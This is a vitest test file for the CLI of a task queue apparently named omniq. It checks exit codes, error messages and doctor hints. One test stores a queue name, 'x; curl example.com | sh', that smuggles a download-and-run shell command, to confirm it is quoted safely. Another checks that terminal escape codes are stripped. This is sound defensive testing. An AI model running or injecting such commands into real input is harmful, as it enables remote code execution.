import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createQueue } from "../../src/core/queue.ts";
import { defineTask } from "../../src/core/registry.ts";
import { createApi } from "../../src/http/api.ts";
import { libsqlStorage } from "../../src/storage/libsql.ts";
import { type HttpServer, serve } from "../support/serve.ts";
import { omniqWith, startQueue } from "./context.ts";

const site = startQueue();
const onFile = () => omniqWith({ OMNIQ_DB_URL: site.database() });
const nowhere = omniqWith({});
const errorOf = (stderr: string) => JSON.parse(stderr).error;

describe("a file that cannot be read", () => {
  it("ends with 3 and one sentence, before anything is sent", async () => {
    const path = join(site.folder(), "nowhere.ndjson");
    expect(await onFile()("enqueue", "--file", path)).toMatchObject({
      code: 3,
      stdout: "",
      stderr: `no_file: expected ${path} to be a file that can be read, got ENOENT\n`,
    });
    const { code, stderr } = await onFile()("enqueue", "--file", site.folder(), "--json");
    expect(code).toBe(3);
    expect(errorOf(stderr)).toMatchObject({ code: "no_file", exitCode: 3 });
  });
});

describe("a folder that cannot be written to", () => {
  it("is told of in one sentence, without a code twice", async () => {
    const path = join(site.folder(), "taken");
    await writeFile(path, "");
    const { code, stderr } = await nowhere("migrations", "--out", path);
    expect({ code, stderr }).toEqual({
      code: 1,
      stderr: expect.stringMatching(/^file_error: EEXIST: file already exists, .*\n$/),
    });
    expect(await nowhere("init", path, "--template", "node-file")).toMatchObject({
      code: 2,
      stderr: `usage: expected ${path} to be empty or not there, and it is a file\n`,
    });
  });
});

describe("a value that cannot be used", () => {
  it("ends with 2, also where it is of the configuration", async () => {
    expect((await onFile()("ls", "--prefix", "a b")).code).toBe(2);
    expect((await onFile()("stats", "--watch", "--times", "0")).stderr).toContain(
      "Expected an integer from 1 on.",
    );
  });
});

describe("a file without an end", () => {
  it.skipIf(process.platform === "win32")(
    "is refused once a line is longer than any task can be",
    async () => {
      const { code, stderr } = await onFile()("enqueue", "test.noop", "--file", "/dev/zero");
      expect({ code, stderr }).toEqual({
        code: 2,
        stderr: expect.stringMatching(
          /^usage: expected line 1 to be at most [\d,]+ characters long, got more\n$/,
        ),
      });
    },
  );
});

describe("what a task holds", () => {
  const introducer = String.fromCharCode(27);

  it("does not steer the terminal of whoever looks at its error", async () => {
    const url = `file:${site.folder()}/escape.db`;
    const run = () => Promise.reject(new Error(`${introducer}[31mred`));
    const task = defineTask("test.escape", { maxRetries: 0, run });
    const storage = libsqlStorage({ url });
    await storage.initialize();
    const queue = createQueue({ storage, tasks: [task] });
    const { id } = await queue.enqueue(task, {});
    await queue.drain();
    const shown = await nowhere("show", id, "--db", url);
    expect(shown.stdout).toContain("[31mred");
    expect(shown.stdout).not.toContain(introducer);
  });

  it("is quoted in a command that doctor says to run", async () => {
    const name = "x; curl example.com | sh";
    expect((await onFile()("pause", name)).code).toBe(0);
    const { json } = await onFile()("doctor", "--json");
    const { hint } = json[0].checks.find((check: { name: string }) => check.name === `queue ${name}`);
    expect(hint).toContain(`omniq resume 'x; curl example.com | sh'`);
  });
});

describe("with --json", () => {
  it.each([
    ["an unknown command", ["lss"], /unknown command 'lss'/],
    ["an unknown option", ["ls", "--statuss"], /unknown option '--statuss'/],
    ["a missing argument", ["show"], /missing required argument 'id'/],
    ["a value of another form", ["ls", "--limit", "many"], /'many' is invalid/],
  ])("%s is told as JSON too", async (_, argv, message) => {
    const { code, stdout, stderr } = await onFile()(...argv, "--json");
    expect({ code, stdout }).toEqual({ code: 2, stdout: "" });
    expect(errorOf(stderr)).toEqual({
      code: "usage",
      message: expect.stringMatching(message),
      hint: expect.any(String),
      exitCode: 2,
    });
  });
});

describe("an empty id, as of a variable that is not set", () => {
  it.each([["show"], ["result"], ["cancel"]])("is refused by %s for what it is", async (name) => {
    const { code, stderr } = await onFile()(name, "");
    expect({ code, stderr }).toEqual({
      code: 2,
      stderr: expect.stringContaining("Expected a text, got an empty one"),
    });
  });
});

describe("doctor", () => {
  it("never says to run itself", async () => {
    const { code, stdout } = await omniqWith({ OMNIQ_URL: "http://127.0.0.1:1" })("doctor");
    expect(code).toBe(4);
    expect(stdout).toContain("OMNIQ_URL is right");
    expect(stdout).not.toContain("omniq doctor");
  });
});

describe("a purge that fails in its middle", () => {
  let server: HttpServer;
  let purges = 0;
  beforeAll(async () => {
    const api = createApi(() => ({ queue: site.queue(), keys: null }));
    server = await serve((request) => {
      const isPurge = request.method === "DELETE";
      return isPurge && ++purges > 1 ? new Response("no", { status: 403 }) : api.fetch(request);
    });
  });
  afterAll(() => server.close());

  it("says what is removed, and how to go on", async () => {
    const requests = Array.from({ length: 12_000 }, () => ({ funcPath: "test.noop", queue: "old" }));
    for (let at = 0; at < requests.length; at += 6_000)
      await site.queue().submitMany(requests.slice(at, at + 6_000));
    expect((await onFile()("cancel", "--queue", "old", "--yes")).code).toBe(0);
    const omniq = omniqWith({ OMNIQ_URL: server.origin });
    const { code, stderr } = await omniq("purge", "--older-than", "0s", "--yes");
    expect({ code, stderr }).toEqual({
      code: 1,
      stderr: expect.stringMatching(
        /^stopped: [\d,]+ tasks removed, go on with --cursor \S+, or run it again\nhttp_error: /,
      ),
    });
  }, 60_000);
});
